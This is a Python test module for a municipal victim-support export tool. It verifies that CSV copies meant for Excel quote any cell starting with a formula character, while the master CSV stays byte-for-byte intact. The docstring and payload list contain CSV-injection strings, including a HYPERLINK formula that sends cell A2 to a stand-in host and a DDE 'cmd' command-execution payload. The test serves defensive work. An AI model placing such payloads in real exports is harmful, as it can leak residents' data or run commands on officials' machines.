"""Hostile finding: the CSV copies made for Excel (``persons-excel.csv``, ``persons-cp932.csv``)
carried a resident's free text as it was, so a 方書 or name registered as
``=HYPERLINK("https://x/?"&A2,"詳細")`` or ``=cmd|' /C calc'!A0`` became a live formula on the
partner official's PC (CSV injection). ``persons.xlsx`` stores such text as text; the CSV copies
for Excel must not run it either, while ``persons.csv`` (the master) keeps every byte and the
manifest says which rows were guarded.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from types import SimpleNamespace

from hypothesis import given, settings
from hypothesis import strategies as st

from victim_support import build
from victim_support.csvformat import BOM, FORMULA_START
from victim_support.policy import BASES

COLUMNS = ("person_ref", "name", "katagaki", "phone", "banchi")
NOW = datetime(2026, 12, 6, 1, 0, tzinfo=UTC)


def _files(rows: list[tuple[str, ...]]) -> tuple[dict[str, bytes], list[dict[str, object]]]:
    request = SimpleNamespace(formats=("cp932",), basis=next(iter(BASES)), purposes=(), id="req-1", retention_days=30)
    tenant = SimpleNamespace(name="甲町", lg_code="000001")
    partner = SimpleNamespace(name="乙市", lg_code="000002")
    data = SimpleNamespace(columns=COLUMNS, rows=rows)
    files, _lossy, _replaced, guarded = build._files(
        request, data, tenant, partner, now=NOW, expires_at=NOW, as_of=NOW, pfif_domain=None
    )
    return dict(files), guarded


def _cells(data: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.removeprefix(BOM).decode(encoding), newline="")))[1:]


PAYLOADS = [
    '=HYPERLINK("https://x.example/?"&A2,"詳細")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
VALUE = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(alphabet="=+-@\t\r 1aア,\"'", min_size=0, max_size=6),
)


@settings(max_examples=150, derandomize=True, deadline=None)
@given(st.lists(st.tuples(VALUE, VALUE, VALUE, VALUE), min_size=1, max_size=6))
def test_no_csv_for_excel_holds_a_formula(values: list[tuple[str, str, str, str]]) -> None:
    rows: list[tuple[str, ...]] = [(f"ref{i}", *row) for i, row in enumerate(values)]
    files, guarded = _files(rows)
    master = _cells(files["persons.csv"], "utf-8")
    assert master == [list(row) for row in rows]  # the master keeps every byte
    for name, encoding in (("persons-excel.csv", "utf-8"), ("persons-cp932.csv", "cp932")):
        for row in _cells(files[name], encoding):
            assert not any(cell.startswith(FORMULA_START) for cell in row), (name, row)
    expected = [
        {"person_ref": row[0], "fields": [COLUMNS[i] for i, v in enumerate(row) if v.startswith(FORMULA_START)]}
        for row in rows
        if any(v.startswith(FORMULA_START) for v in row)
    ]
    assert guarded == expected


def test_a_guarded_value_is_the_original_after_its_quote() -> None:
    files, guarded = _files([("r1", "=1+2", "@x", "-", "2-3")])
    assert _cells(files["persons-excel.csv"], "utf-8") == [["r1", "'=1+2", "'@x", "'-", "2-3"]]
    assert guarded == [{"person_ref": "r1", "fields": ["name", "katagaki", "phone"]}]
